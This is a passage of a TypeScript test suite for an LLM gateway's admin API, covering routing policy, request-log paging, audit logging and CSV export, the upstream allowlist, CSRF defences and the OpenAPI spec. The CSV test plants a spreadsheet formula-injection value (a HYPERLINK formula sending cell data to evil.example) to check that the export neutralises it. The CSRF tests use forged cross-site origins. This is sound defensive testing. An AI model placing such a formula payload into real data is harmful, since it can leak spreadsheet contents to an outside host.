    const task = await req(policyRoute.PUT, { method: "PUT", params: { teamId: team.id }, body: { rules: [{ task: "poetry", models: [m1.name] }], defaultModels: [] } });
    expect(task.status).toBe(422);
    expect(task.body.error.details[0].path).toBe("rules.0.task");
    const got = await req(policyRoute.GET, { params: { teamId: team.id } });
    expect(got.body.rules).toEqual([]);
  });

  it("allowedModels: a team lead may not send them (403); an admin may, and rules must then stay within them", async () => {
    const { m1, m2, m3, team } = await setup();
    const { as } = await makeUser("team_lead", [{ teamId: team.id }]);
    const lead = await call(policyRoute.PUT, { method: "PUT", params: { teamId: team.id }, body: { rules: [], defaultModels: [m1.name], allowedModels: [m1.name, m2.name, m3.name] }, as });
    expect(lead.status).toBe(403);
    expect(lead.body.error.message).toContain("allowedModels");

    const admin = await req(policyRoute.PUT, { method: "PUT", params: { teamId: team.id }, body: { rules: [], defaultModels: [m1.name], allowedModels: [m1.name, m2.name] } });
    expect(admin.status).toBe(200);
    expect(admin.body.allowedModels).toEqual([m1.name, m2.name].sort());

    const outside = await call(policyRoute.PUT, { method: "PUT", params: { teamId: team.id }, body: { rules: [{ task: "code", models: [m3.name] }], defaultModels: [m1.name] }, as });
    expect(outside.status).toBe(422);
    expect(outside.body.error.details).toEqual([{ path: "rules.0.models.0", message: `"${m3.name}" is not among the team's allowed models` }]);
    const inside = await call(policyRoute.PUT, { method: "PUT", params: { teamId: team.id }, body: { rules: [{ task: "code", models: [m2.name] }], defaultModels: [m1.name] }, as });
    expect(inside.status).toBe(200);
    expect(inside.body.allowedModels).toEqual([m1.name, m2.name].sort());
  });

  it("try: a task hint, a classified prompt, the defaults, and an unknown model", async () => {
    const { m1, m2, m3, team } = await setup();
    const put = await req(policyRoute.PUT, { method: "PUT", params: { teamId: team.id }, body: { rules: [{ task: "code", models: [m1.name, m3.name] }, { task: "writing", models: [m3.name] }], defaultModels: [m2.name] } });
    expect(put.status).toBe(200);

    const hinted = await req(tryRoute.POST, { params: { teamId: team.id }, body: { prompt: "anything at all", task: "writing" } });
    expect(hinted.body).toMatchObject({ ok: true, task: "writing", taskSource: "header", chain: [{ name: m3.name }] });
    expect(hinted.body.reason).toBe('task "writing" (header) -> rule "writing"');

    const classified = await req(tryRoute.POST, { params: { teamId: team.id }, body: { prompt: "Fix this python function" } });
    expect(classified.body).toMatchObject({ ok: true, task: "code", taskSource: "classifier" });
    expect(classified.body.chain.map((c: { name: string }) => c.name)).toEqual([m1.name, m3.name]);
    expect(classified.body.reason).toMatch(/^task "code" \(classifier p=0\.\d\d\) -> rule "code"$/);

    const fallback = await req(tryRoute.POST, { params: { teamId: team.id }, body: { prompt: "hello there" } });
    expect(fallback.body).toMatchObject({ ok: true, task: "chat", chain: [{ name: m2.name }] });
    expect(fallback.body.reason).toContain("default models");

    const unknown = await req(tryRoute.POST, { params: { teamId: team.id }, body: { prompt: "hi", model: "no-such-model" } });
    expect(unknown.status).toBe(200);
    expect(unknown.body).toMatchObject({ ok: false, status: 404, code: "model_not_found" });
  });
});

// ───────────── request log ─────────────

describe("requests", () => {
  it("admin sees both teams, a viewer only theirs, a forged teamId is 403, and cursor pages are disjoint and complete", async () => {
    const a = await newTeam();
    const b = await newTeam();
    // A private time window (year 2001 + random hour) keeps other tests' rows out of the pages.
    const base = Date.UTC(2001, 0, 1) + Math.floor(Math.random() * 8000) * 3_600_000;
    const at = (i: number) => new Date(base + Math.floor(i / 2) * 1000); // pairs share a timestamp: ties break on id
    const rows = [
      ...Array.from({ length: 7 }, (_, i) => makeLogRecord({ teamId: a.id, createdAt: at(i), modelName: `m-a-${i}` })),
      ...Array.from({ length: 4 }, (_, i) => makeLogRecord({ teamId: b.id, createdAt: at(i + 7), modelName: `m-b-${i}` })),
    ];
    expect(await writeRequestLogBatch(rows)).toBe(11);
    const window = `from=${new Date(base).toISOString()}&to=${new Date(base + 3_600_000).toISOString()}`;

    const all = await req(requestsRoute.GET, { path: `/api/v1/requests?${window}&limit=200` });
    expect(all.status).toBe(200);
    expect(all.body.data).toHaveLength(11);
    expect(new Set(all.body.data.map((r: { teamId: string }) => r.teamId))).toEqual(new Set([a.id, b.id]));
    expect(all.body.nextCursor).toBeNull();

    const { as } = await makeUser("viewer", [{ teamId: a.id }]);
    const mine = await call(requestsRoute.GET, { path: `/api/v1/requests?${window}`, as });
    expect(mine.body.data).toHaveLength(7);
    expect(mine.body.data.every((r: { teamId: string }) => r.teamId === a.id)).toBe(true);
    const forged = await call(requestsRoute.GET, { path: `/api/v1/requests?${window}&teamId=${b.id}`, as });
    expect(forged.status).toBe(403);
    expect(forged.text).not.toContain("m-b-");

    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const page: { body: { data: { id: string }[]; nextCursor: string | null } } = await req(requestsRoute.GET, { path: `/api/v1/requests?${window}&limit=3${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}` });
      expect(page.body.data.length).toBeLessThanOrEqual(3);
      seen.push(...page.body.data.map((r) => r.id));
      cursor = page.body.nextCursor;
      pages++;
    } while (cursor && pages < 10);
    expect(pages).toBe(4);
    expect(new Set(seen).size).toBe(seen.length);
    expect(seen).toEqual(all.body.data.map((r: { id: string }) => r.id));
    expect(new Set(seen)).toEqual(new Set(rows.map((r) => r.id)));

    const badCursor = await req(requestsRoute.GET, { path: `/api/v1/requests?cursor=garbage` });
    expect(badCursor.status).toBe(400);
  });
});

// ───────────── audit ─────────────

describe("audit", () => {
  it("records every mutation with the actor's email and no key material; filters, pages and exports CSV", async () => {
    const { user, as } = await makeUser("admin");
    const email = user.email;
    const ip = "203.0.113.9";
    const me = (h: unknown, o: Opts = {}) => call(h as Handler, { as, ...o, headers: { "x-forwarded-for": `${ip}, 10.0.0.1`, ...(o.headers ?? {}) } });
    const canary = `${CANARY}-${uid("a")}`;
    const canary2 = `${CANARY}-${uid("b")}`;

    const p = await me(providersRoute.POST, { body: { name: uid("prov"), kind: "openai", baseUrl: "https://api.example.com/v1", apiKey: canary } });
    expect(p.status).toBe(201);
    expect((await me(providerRoute.PATCH, { method: "PATCH", params: { providerId: p.body.id }, body: { baseUrl: "https://api2.example.com/v1", apiKey: canary2 } })).status).toBe(200);
    const m = await me(modelsRoute.POST, { body: { providerId: p.body.id, name: uid("model"), upstreamModel: "gpt-4o", inputPricePerMTok: 1, outputPricePerMTok: 2 } });
    expect(m.status).toBe(201);
    expect((await me(modelRoute.PATCH, { method: "PATCH", params: { modelId: m.body.id }, body: { enabled: false } })).status).toBe(200);
    expect((await me(modelPricesRoute.POST, { params: { modelId: m.body.id }, body: { inputPricePerMTok: 1, outputPricePerMTok: 3, effectiveFrom: "2023-01-01T00:00:00Z" } })).status).toBe(201);
    const t = await me(teamsRoute.POST, { body: { name: uid("Team"), slug: uid("team") } });
    expect(t.status).toBe(201);
    expect((await me(teamRoute.PATCH, { method: "PATCH", params: { teamId: t.body.id }, body: { monthlyBudgetUsd: 10 } })).status).toBe(200);
    const { user: member } = await makeUser("viewer");
    expect((await me(membersRoute.POST, { params: { teamId: t.body.id }, body: { email: member.email, role: "viewer" } })).status).toBe(201);
    expect((await me(memberRoute.DELETE, { method: "DELETE", params: { teamId: t.body.id, userId: member.id } })).status).toBe(200);
    const k = await me(keysRoute.POST, { params: { teamId: t.body.id }, body: { name: "k" } });
    expect(k.status).toBe(201);
    expect((await me(keyRoute.DELETE, { method: "DELETE", params: { teamId: t.body.id, keyId: k.body.id } })).status).toBe(200);
    expect((await me(policyRoute.PUT, { method: "PUT", params: { teamId: t.body.id }, body: { rules: [], defaultModels: [m.body.name] } })).status).toBe(200);
    expect((await me(policyRoute.PUT, { method: "PUT", params: { teamId: t.body.id }, body: { rules: [], defaultModels: [] } })).status).toBe(200);
    expect((await me(modelRoute.DELETE, { method: "DELETE", params: { modelId: m.body.id } })).status).toBe(200);
    expect((await me(providerRoute.DELETE, { method: "DELETE", params: { providerId: p.body.id } })).status).toBe(200);
    expect((await me(teamRoute.DELETE, { method: "DELETE", params: { teamId: t.body.id } })).status).toBe(200);
    const u = await me(usersRoute.POST, { body: { email: `${uid("made")}@example.test`, password: "correct-horse-battery-staple", role: "viewer" } });
    expect(u.status).toBe(201);
    const current = await req(settingsRoute.GET);
    expect((await me(settingsRoute.PUT, { method: "PUT", body: { upstreamAllowlist: current.body.upstreamAllowlist } })).status).toBe(200);

    const list = await req(auditRoute.GET, { path: `/api/v1/audit?actor=${encodeURIComponent(email)}&limit=500` });
    expect(list.status).toBe(200);
    const actions = list.body.data.map((e: { action: string }) => e.action).reverse();
    expect(actions).toEqual([
      "provider.create",
      "provider.update",
      "model.create",
      "model.update",
      "model.price.add",
      "team.create",
      "team.update",
      "team.member.add",
      "team.member.remove",
      "team.key.create",
      "team.key.revoke",
      "routing.update",
      "routing.update",
      "model.delete",
      "provider.delete",
      "team.archive",
      "user.create",
      "settings.update",
    ]);
    expect(list.body.data.filter((e: { actor: string }) => e.actor !== email)).toEqual([]);
    expect.soft(list.body.data.filter((e: { ip: string | null }) => e.ip !== ip).map((e: { action: string }) => e.action), "every event records the caller's IP").toEqual([]);
    const teamUpdate = list.body.data.find((e: { action: string }) => e.action === "team.update");
    expect(teamUpdate).toMatchObject({ teamId: t.body.id, before: { monthlyBudgetUsd: null }, after: { monthlyBudgetUsd: 10 } });
    const json = await allAuditJson();
    expect(json).not.toContain(CANARY);
    expect(json).not.toContain(k.body.key.slice(10));
    expect(json).not.toMatch(/\$scrypt|\$argon2|passwordHash/);

    // filters
    const teamEvents = await req(auditRoute.GET, { path: `/api/v1/audit?actor=${encodeURIComponent(email.toUpperCase().slice(0, 20))}&resourceType=team&limit=500` });
    expect(teamEvents.body.data.map((e: { action: string }) => e.action).reverse()).toEqual(["team.create", "team.update", "team.member.add", "team.member.remove", "team.archive"]);
    const keyEvents = await req(auditRoute.GET, { path: `/api/v1/audit?actor=${encodeURIComponent(email)}&action=team.key` });
    expect(keyEvents.body.data.map((e: { action: string }) => e.action)).toEqual(["team.key.revoke", "team.key.create"]);
    const byTeam = await req(auditRoute.GET, { path: `/api/v1/audit?teamId=${t.body.id}&limit=500` });
    expect(byTeam.body.data).toHaveLength(9);
    const times = list.body.data.map((e: { createdAt: string }) => Date.parse(e.createdAt));
    const [oldest, newest] = [Math.min(...times), Math.max(...times)];
    const inWindow = await req(auditRoute.GET, { path: `/api/v1/audit?actor=${encodeURIComponent(email)}&from=${new Date(oldest).toISOString()}&to=${new Date(newest + 1).toISOString()}&limit=500` });
    expect(inWindow.body.data).toHaveLength(18);
    const future = await req(auditRoute.GET, { path: `/api/v1/audit?actor=${encodeURIComponent(email)}&from=${new Date(newest + 1).toISOString()}` });
    expect(future.body.data).toHaveLength(0);

    // cursor pages
    const ids: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const page: { body: { data: { id: string }[]; nextCursor: string | null } } = await req(auditRoute.GET, { path: `/api/v1/audit?actor=${encodeURIComponent(email)}&limit=5${cursor ? `&cursor=${cursor}` : ""}` });
      ids.push(...page.body.data.map((e) => e.id));
      cursor = page.body.nextCursor;
      pages++;
    } while (cursor && pages < 10);
    expect(pages).toBe(4);
    expect(ids).toEqual(list.body.data.map((e: { id: string }) => e.id));
    expect((await req(auditRoute.GET, { path: "/api/v1/audit?cursor=abc" })).status).toBe(400);

    // CSV
    const csv = await req(auditRoute.GET, { path: `/api/v1/audit?actor=${encodeURIComponent(email)}&format=csv` });
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(csv.headers.get("content-disposition")).toMatch(/^attachment; filename="switchyard-audit-\d{4}-\d{2}-\d{2}\.csv"$/);
    const parsed = parseCsv(csv.text);
    expect(csv.text.split("\r\n")[0]).toBe("Id,Time,Actor,Action,ResourceType,ResourceId,TeamId,Ip,Before,After");
    expect(parsed.length - 1).toBe(list.body.data.length);
    expect(parsed.slice(1).map((r) => r[0])).toEqual(list.body.data.map((e: { id: string }) => e.id));
    expect(parsed.slice(1).every((r) => r.length === 10 && r[2] === email)).toBe(true);
    const teamUpdateRow = parsed.find((r) => r[3] === "team.update")!;
    expect(JSON.parse(teamUpdateRow[9]!)).toMatchObject({ monthlyBudgetUsd: 10 });
    expect(csv.text).not.toContain(CANARY);
  });

  it("neutralises spreadsheet formulas in the CSV (a leading = gets a ')", async () => {
    const { user, as } = await makeUser("admin");
    const evil = `=HYPERLINK("http://evil.example/"&A1)+${uid("x")}@example.test`;
    await prisma.user.update({ where: { id: user.id }, data: { email: evil } });
    const t = await call(teamsRoute.POST, { body: { name: uid("Team"), slug: uid("team") }, as, headers: { "x-forwarded-for": "=1+2" } });
    expect(t.status).toBe(201);
    const json = await req(auditRoute.GET, { path: `/api/v1/audit?actor=${encodeURIComponent(evil)}` });
    expect(json.body.data).toHaveLength(1);
    expect(json.body.data[0]).toMatchObject({ actor: evil, ip: "=1+2" });
    const csv = await req(auditRoute.GET, { path: `/api/v1/audit?actor=${encodeURIComponent(evil)}&format=csv` });
    const rows = parseCsv(csv.text);
    expect(rows).toHaveLength(2);
    expect(rows[1]![2]).toBe(`'${evil}`);
    expect(rows[1]![7]).toBe("'=1+2");
    expect(csv.text).not.toMatch(/(^|,)"?=/m);
  });
});

// ───────────── settings ─────────────

describe("settings", () => {
  it("stores the upstream allowlist, refuses an invalid CIDR, and the allowlist admits a private provider", async () => {
    const before = (await req(settingsRoute.GET)).body.upstreamAllowlist as string[];
    const denied = await req(providersRoute.POST, { body: { name: uid("prov"), kind: "openai-compatible", baseUrl: "http://10.0.0.5/v1" } });
    expect(denied.status).toBe(422);
    try {
      const put = await req(settingsRoute.PUT, { method: "PUT", body: { upstreamAllowlist: ["vllm.internal", "10.0.0.5", "10.1.0.0/16", "Gpu-Box.Internal:8000"] } });
      expect(put.status).toBe(200);
      const got = await req(settingsRoute.GET);
      expect(got.body.upstreamAllowlist).toEqual(["vllm.internal", "10.0.0.5", "10.1.0.0/16", "gpu-box.internal:8000"]);
      expect(got.body.environment).toMatchObject({ upstreamAllowlist: ["127.0.0.1"], adminTokenEnabled: true });

      const cidr = await req(settingsRoute.PUT, { method: "PUT", body: { upstreamAllowlist: ["10.0.0.0/99"] } });
      expect(cidr.status).toBe(400);
      expect(cidr.body.error.details[0].path).toBe("upstreamAllowlist.0");
      expect((await req(settingsRoute.GET)).body.upstreamAllowlist).toContain("10.0.0.5");

      const ok = await req(providersRoute.POST, { body: { name: uid("prov"), kind: "openai-compatible", baseUrl: "http://10.0.0.5/v1", inHouse: true } });
      expect(ok.status, ok.text).toBe(201);
      const inRange = await req(providersRoute.POST, { body: { name: uid("prov"), kind: "openai-compatible", baseUrl: "http://10.1.2.3:8000/v1", inHouse: true } });
      expect(inRange.status, inRange.text).toBe(201);
      const outside = await req(providersRoute.POST, { body: { name: uid("prov"), kind: "openai-compatible", baseUrl: "http://10.2.0.1/v1" } });
      expect(outside.status).toBe(422);
    } finally {
      await req(settingsRoute.PUT, { method: "PUT", body: { upstreamAllowlist: before } });
    }
    const after = await req(providersRoute.POST, { body: { name: uid("prov"), kind: "openai-compatible", baseUrl: "http://10.0.0.5/v1" } });
    expect(after.status).toBe(422);
  });
});

// ───────────── CSRF ─────────────

describe("CSRF", () => {
  it("refuses cookie mutations from another origin or without Origin/Sec-Fetch-Site; the admin token and GETs need none", async () => {
    const { as } = await makeUser("admin");
    const body = () => ({ name: uid("Team"), slug: uid("team") });

    const evilBody = body();
    const evil = await call(teamsRoute.POST, { body: evilBody, as, headers: { origin: "http://evil.example" } });
    expect(evil.status).toBe(403);
    expect(evil.body.error.message).toContain("Cross-site");
    expect(await prisma.team.count({ where: { slug: evilBody.slug } })).toBe(0);

    const lookalike = await call(teamsRoute.POST, { body: body(), as, headers: { origin: "http://switchyard.test.evil.example" } });
    expect(lookalike.status).toBe(403);

    const bareBody = body();
    const bare = await call(teamsRoute.POST, { body: bareBody, as, headers: { origin: "" } });
    expect(bare.status).toBe(403);
    expect(await prisma.team.count({ where: { slug: bareBody.slug } })).toBe(0);

    const nullOrigin = await call(teamsRoute.POST, { body: body(), as, headers: { origin: "null" } });
    expect(nullOrigin.status).toBe(403);

    const crossSite = await call(teamsRoute.POST, { body: body(), as, headers: { origin: "", "sec-fetch-site": "cross-site" } });
    expect(crossSite.status).toBe(403);

    const sameOrigin = await call(teamsRoute.POST, { body: body(), as, headers: { origin: "", "sec-fetch-site": "same-origin" } });
    expect(sameOrigin.status).toBe(201);

    const ownOrigin = await call(teamsRoute.POST, { body: body(), as });
    expect(ownOrigin.status).toBe(201);

    const token = await call(teamsRoute.POST, { body: body(), as: adminToken() });
    expect(token.status).toBe(201);

    const get = await call(teamsRoute.GET, { as, headers: { origin: "http://evil.example" } });
    expect(get.status).toBe(200);

    const evilDelete = await call(teamRoute.DELETE, { method: "DELETE", params: { teamId: token.body.id }, as, headers: { origin: "http://evil.example" } });
    expect(evilDelete.status).toBe(403);
    expect((await prisma.team.findUniqueOrThrow({ where: { id: token.body.id } })).archivedAt).toBeNull();
  });
});

// ───────────── OpenAPI ─────────────

describe("openapi.json", () => {
  it("is OpenAPI 3.1 with every contract path and method, and a request body schema on every write", async () => {
    const res = await call((async () => openapiRoute.GET()) as Handler, { as: null });
    expect(res.status).toBe(200);
    const doc = res.body as { openapi: string; paths: Record<string, Record<string, any>> };
    expect(doc.openapi).toBe("3.1.0");
    expect(Object.keys(doc.paths).sort()).toEqual([...new Set(ENDPOINTS.map((e) => e.path))].sort());
    for (const e of ENDPOINTS) {
      const op = doc.paths[e.path]?.[e.method.toLowerCase()];
      expect(op, `${e.method} ${e.path}`).toBeDefined();
      expect(op["x-switchyard-scope"]).toBe(e.scope ?? undefined);
      expect(Object.keys(op.responses)).toContain(String(e.status ?? 200));
      if (["POST", "PUT", "PATCH"].includes(e.method)) {
        const schema = op.requestBody?.content?.["application/json"]?.schema;
        expect(schema, `${e.method} ${e.path} requestBody`).toBeDefined();
        expect(schema.type, `${e.method} ${e.path}`).toBe("object");
      }
      for (const name of [...e.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1])) {
        expect(op.parameters.some((p: { name: string; in: string }) => p.name === name && p.in === "path")).toBe(true);
      }
    }
    expect(Object.keys(doc.paths["/api/v1/providers"]!.post.requestBody.content["application/json"].schema.properties)).toContain("apiKey");
    expect(JSON.stringify(doc.paths["/api/v1/providers"]!.get.responses["200"])).not.toContain("apiKeyCiphertext");
  });
});

// ───────────── last: nothing this file did printed a key ─────────────

describe("console output", () => {
  it("never carried a canary key", () => {
    const all = printed.join("\n");
    expect(all).not.toContain(CANARY);
  });
});
